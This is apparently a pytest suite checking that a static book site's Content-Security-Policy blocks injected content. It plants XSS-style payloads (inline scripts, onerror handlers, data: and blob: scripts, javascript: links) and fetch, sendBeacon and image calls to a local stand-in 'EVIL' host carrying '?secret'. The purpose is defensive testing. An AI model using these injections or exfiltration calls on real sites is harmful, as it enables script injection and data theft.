"""The policy of every page: what it allows, and that a browser refuses what somebody has smuggled in."""

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from pages import policy
from tests.pages.driver import whole
from tests.pages.test_pages import PAGES, TOC

FIRST = f"{TOC['root']}.html"
RACE = "book/00-it-trains-is-it-right.html"
CHAPTER = "book/01-patchify.html"
DECK = "slides/01-patchify.html"
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def rules(text):
    """The rules of a policy: name -> its sources."""
    return {rule.split()[0]: rule.split()[1:] for rule in text.split("; ")}


def of(site, path):
    """The rules of the one policy that a built page has."""
    [found] = META.findall((site / path).read_text())
    return rules(found)


def test_every_html_file_has_one_policy_before_all_that_it_judges(site):
    built = {str(path.relative_to(site)) for path in site.rglob("*.html")}
    assert built >= {*PAGES, "index.html", "search.html", "genindex.html", DECK}
    for path in built:
        page, found = (site / path).read_text(), of(site, path)
        assert found["default-src"] == found["object-src"] == found["base-uri"] == ["'none'"], path
        allowed = " ".join(source for sources in found.values() for source in sources)
        for never in ("'unsafe-inline'", "'unsafe-eval'", "http", "*", "'strict-dynamic'", "file:"):
            assert never not in allowed, f"{path}: {never}"
        assert "data:" not in found["script-src"] and "blob:" not in found["script-src"], path
        before = page[: META.search(page).start()]
        assert not re.search(r"<(?:script|style|link|img|body)", before), path
        assert len(before.encode()) < 1024 and (path == "index.html" or "charset" in before), path


def test_a_page_may_do_no_more_than_it_needs(site):
    assert [path for path in [*PAGES, "search.html"] if "connect-src" in of(site, path)] == []  # none asks for anything
    assert [path for path in PAGES if "worker-src" in of(site, path)] == [RACE]
    computes = {path for path in PAGES if "'wasm-unsafe-eval'" in of(site, path)["script-src"]}
    assert {FIRST, RACE} <= computes < set(PAGES)
    assert of(site, DECK)["frame-src"] == ["'self'"]
    assert [path for path in PAGES if "frame-src" in of(site, path)] == []
    # Firefox would fetch the page that a link in the head calls the next, and the policy would refuse it.
    assert [path for path in PAGES if re.search('<link[^>]*rel="(next|prefetch)"', (site / path).read_text())] == []


# ---- What is planted is refused. Each plant says so if it runs, and EVIL notes whoever asks it for something.

EVIL = "http://localhost:PORT"

RAN = "window.planted = true"
PLANTS = {
    "an inline script": (f"<script>{RAN}</script>", "script-src-elem: inline"),
    "a handler in an attribute": (f'<img src="x" onerror="{RAN}">', "script-src-attr: inline"),
    "a script from elsewhere": ('<script src="EVIL/x.js"></script>', "script-src-elem: http://localhost"),
    "a script in its address": (f'<script src="data:text/javascript,{RAN}"></script>', "script-src-elem: data"),
    "an image from elsewhere": ('<img alt="" src="EVIL/x.png">', "img-src: http://localhost"),
    "a frame": ('<iframe src="EVIL/"></iframe>', "frame-src: http://localhost"),
    "a style": ("<style>h1 { display: none }</style>", "style-src-elem: inline"),
    "a style in an attribute": ('<p style="position: fixed; inset: 0">x</p>', "style-src-attr: inline"),
    "a style sheet from elsewhere": ('<link rel="stylesheet" href="EVIL/x.css">', "style-src-elem: http://localhost"),
    "another base": ('<base href="EVIL/">', "base-uri: http://localhost"),
    "an object": ('<object data="EVIL/x.swf"></object>', "object-src: http://localhost"),
    "a film": ('<video src="EVIL/x.mp4"></video>', "media-src: http://localhost"),
}


class Evil(BaseHTTPRequestHandler):
    """A host that serves whatever it is asked for, and notes it."""

    def answer(self) -> None:
        """Send something that would be seen: as a script it runs."""
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(RAN.encode())

    do_GET = do_POST = answer

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def evil():
    """Another host, which runs on this machine: where it is, and for what it was asked."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as http:
        http.asked = []
        threading.Thread(target=http.serve_forever, daemon=True).start()
        yield EVIL.replace("PORT", str(http.server_port)), http.asked
        http.shutdown()


@pytest.mark.parametrize("path, from_file", [(CHAPTER, False), (DECK, True)], ids=["http", "file"])
def test_what_is_planted_is_refused(visit, site, evil, path, from_file):
    home, asked = evil
    planted = "\n".join(html for html, _ in PLANTS.values()).replace("EVIL", home)
    body = (site / path).read_text().replace("</body>", f"{planted}</body>")
    page, watch = visit(path, body=body, from_file=from_file)
    told = "\n".join(error for error in watch.errors if error.startswith("the policy refuses"))
    assert [kind for kind, (_, words) in PLANTS.items() if words not in told] == []
    assert page.evaluate("window.planted") is None
    assert asked == [], "a request has left the page"
    page, _ = visit(path, body=body, from_file=from_file, bypass_csp=True)
    assert page.evaluate("window.planted") and len(asked) >= 3, "the plants are harmless: the test shows nothing"


@pytest.mark.parametrize("from_file", [False, True], ids=["http", "file"])
def test_a_script_of_the_page_can_neither_evaluate_text_nor_call_home(visit, site, evil, from_file):
    """A sound script of the book that is fooled: its own sum is allowed, what it tries is not."""
    home, asked = evil
    tries = """<script>window.said = [];
      const attempt = (name, work) => { try { work(); said.push(name); } catch {} };
      attempt("eval", () => eval("1"));
      attempt("Function", () => new Function("return 1")());
      attempt("string timer", () => setTimeout("said.push('timer')", 0));
      const script = document.createElement("script");
      script.textContent = "said.push('inserted')";
      document.head.append(script);
      const send = (name, promise) => promise.then(() => said.push(name), () => {});
      send("fetch", fetch("EVIL/?secret", { mode: "no-cors" }));
      attempt("beacon", () => { if (!navigator.sendBeacon("EVIL/?secret", "x")) throw 1; });
      send("import", import("data:text/javascript,said.push('imported')"));
      send("blob", import(URL.createObjectURL(new Blob(["said.push('blob')"], { type: "text/javascript" }))));
      new Image().src = "EVIL/?secret";
    </script>""".replace("EVIL", home)
    allowed = policy.source(policy.read(tries).scripts[0])
    body = (site / CHAPTER).read_text().replace("</body>", f"{tries}</body>")
    body = body.replace("script-src 'self'", f"script-src 'self' {allowed}", 1)
    page, watch = visit(CHAPTER, body=body, from_file=from_file)
    assert set(page.evaluate("said")) <= {"string timer", "beacon"}  # the calls return; nothing is run, nothing sent
    assert asked == [], "a request has left the page"
    told = "\n".join(watch.errors)
    for directive in (
        "script-src: eval",
        "script-src-elem: inline",
        "connect-src: http://localhost",
        "img-src: http://localhost",
    ):
        assert directive in told
    page, watch = visit(CHAPTER, body=body, from_file=from_file, bypass_csp=True)
    assert {"eval", "Function", "timer", "inserted", "fetch"} <= set(page.evaluate("said")) and len(asked) >= 2


def test_a_figure_runs_the_code_that_the_build_has_seen_and_no_other(visit, site, live):
    frame, page, watch = live(CHAPTER)
    assert frame.locator(".vf").count()
    body = re.sub(r'("_esm": ")', r"\1window.planted = true;\\n", whole(site, CHAPTER))
    page.route(f"**/{CHAPTER}", lambda route: route.fulfill(content_type="text/html", body=body))
    page.reload()
    frame.scroll_into_view_if_needed()
    page.get_by_text("This figure could not start in your browser: the page does not allow its code.").first.wait_for()
    assert page.evaluate("window.planted") is None


WORKS = """home => new Promise((done) => {
  const asks = `fetch("${home}/?secret", { mode: "no-cors" })`;
  const code = `${asks}.then(() => postMessage("sent"), () => postMessage("not"))`;
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  worker.onmessage = ({ data }) => done(data);
})"""


def test_a_worker_may_compute_and_not_call_home(visit, evil):
    """The code of a worker cannot be listed by its sum; the page's policy holds in it all the same."""
    home, asked = evil
    page, _ = visit(RACE)
    assert page.evaluate(WORKS, home) == "not" and asked == []
    page, _ = visit(RACE, bypass_csp=True)
    page.context.grant_permissions(["local-network-access"])
    assert page.evaluate(WORKS, home) == "sent" and asked


# ---- The build refuses, too


@pytest.mark.parametrize(
    "html, words",
    [
        ('<script src="https://cdn.example/x.js"></script>', "script asks another host"),
        ('<img alt="" src="//cdn.example/x.png">', "img asks another host"),
        ('<link rel="stylesheet" href="http://cdn.example/x.css">', "link asks another host"),
        ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "iframe asks another host"),
        ('<form action="https://example.org/"></form>', "form asks another host"),
        ('<a href="javascript:alert(1)">x</a>', "a asks another host, or runs a script: javascript:alert(1)"),
        ('<p onclick="alert(1)">x</p>', "p has a handler of its own, onclick"),
    ],
)
def test_no_policy_is_written_for_a_page_that_asks_others(html, words):
    with pytest.raises(ValueError, match=re.escape(words)):
        policy.sealed(f"<!doctype html><meta charset='utf-8'>{html}")
    assert policy.sealed('<a href="https://arxiv.org/">a link asks nobody</a>')


def test_a_page_that_is_sealed_twice_has_one_policy():
    once = policy.sealed("<meta charset='utf-8'><script>1</script>")
    assert policy.sealed(policy.lighter(once)) == once
    assert policy.source("1") in once


def test_the_sum_is_the_one_that_browsers_take():
    # The example of the specification: https://www.w3.org/TR/CSP3/, 6.7.3.3
    assert policy.source("alert('Hello, world.');") == "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"


def test_two_buttons_of_the_theme_still_work(visit):
    page, watch = visit(CHAPTER)
    page.evaluate("window.print = () => (window.printed = true)")
    page.locator("[data-does='window.print']").evaluate("button => button.click()")
    assert page.evaluate("window.printed")
    page.evaluate("document.documentElement.requestFullscreen = () => (window.whole = true)")
    page.locator("[data-does='toggleFullScreen']").first.evaluate("button => button.click()")
    assert page.evaluate("window.whole")
    watch.assert_clean()
